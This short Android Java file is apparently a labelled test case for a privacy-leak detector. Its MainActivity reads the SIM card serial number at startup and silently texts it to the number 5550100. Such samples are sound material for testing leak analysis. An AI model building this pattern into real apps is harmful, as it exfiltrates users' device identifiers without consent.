// about       The value itself is chosen where there is one.
// leak        DEV_ICCID sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String card = phone.getSimSerialNumber();
    // The value, or a constant.
    String text = card != null ? card : "no card";
    SmsManager.getDefault().sendTextMessage("5550100", null, text, null, null);
  }
}
